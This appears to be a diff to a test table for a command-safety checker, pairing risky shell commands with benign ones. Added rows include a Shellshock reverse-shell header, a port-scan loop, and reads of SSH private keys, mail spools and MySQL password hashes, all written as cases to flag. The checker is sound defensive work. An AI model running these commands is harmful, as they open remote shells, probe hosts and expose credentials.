@@ -81,7 +81,7 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ['git filter-repo --path secret --invert-paths', true, false, 'rewrites'],
   ['git reflog expire --expire=now --all', true, false, 'reflog'],
   ['git -C sub push -f', true, false, 'force-push'],
-  ['git push origin main', false, false],
+  ['git push origin feature', false, false],
   ['git commit -am "x"', false, false],
   ['git reset --hard HEAD~1', false, false],
   // devices and disks
@@ -905,8 +905,40 @@ describe('checkCommand on versioned release names, services killed by name, prob
     ['git push origin "$VERSION"', true, 'pushes a tag'],
     ['git push --follow-tags', true, 'pushes a tag'],
     ['git push origin v1.2.3', true, 'pushes a tag'],
-    ['git push origin main', false],
     ['git push origin "$BRANCH"', false],
+    // a push onto the default branch skips review; a feature branch, or a push naming none, waits for it
+    ['git push origin main', true, 'default branch'],
+    ['git push origin main:release-nightly', false],
+    ['git push origin HEAD:refs/heads/master', true, 'default branch'],
+    ['git push -u origin develop', true, 'default branch'],
+    ['git push -u origin feature', false],
+    ['git push', false],
+    // Shellshock in a header's value, after the header's name; an ordinary cookie is a header
+    ["curl -H 'Cookie: () { :;}; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' http://10.0.0.2/cgi-bin/status", true, 'function definition'],
+    ["curl -H 'Cookie: session=abc' https://example.com/", false],
+    // a database server's data directory holds its users' password hashes
+    ['cat /var/lib/mysql/mysql/user.MYD', true, 'secrets'],
+    ['cat ./var/lib/mysql-fixtures/users.sql', false],
+    // a compiler's output is a write where it lands
+    ['gcc -shared -fPIC -o /development/libshared.so shared.c', true, 'outside the workspace'],
+    ['gcc -shared -fPIC -o build/libshared.so shared.c', false],
+    // a fixed address whose port is computed is a port scan
+    ['for port in $(seq 1 1024); do wget -O /dev/null -T1 -t1 http://10.0.0.1:$port; done', true, 'scan of its ports'],
+    ['curl -fsS http://example.com:$PORT/health', false],
+    // a credential variable as a search's pattern is looked for, not printed; echoed, it is printed
+    ['find . -name "*.php" -print0 | xargs -0 grep -i -n "var $password"', false],
+    ['echo "var $password"', true, 'credential variable'],
+    // the mail spool listed shows names; a mailbox read is the mail
+    ['ls -alh /var/mail/', false],
+    ['cat /var/mail/root', true, 'secrets'],
+    // a binary's headers and symbols read; a secret read with the same tool is still a secret read
+    ['objdump -p /usr/bin/env', false],
+    ['readelf -a /bin/ls', false],
+    ['objdump -s /root/.ssh/id_rsa', true, 'secrets'],
+    // a toolchain installer's environment script sourced; another file of the home is not that
+    ['. ~/.cargo/env', false],
+    ['source "$HOME/.cargo/env"', false],
+    ['. ~/.profile.d/evil.sh', true],
     // python -m X is X when a table names X
     ['python -m twine upload --skip-existing ./wheelhouse/*', true, 'publishes'],
     ['python -m twine check dist/*', false],
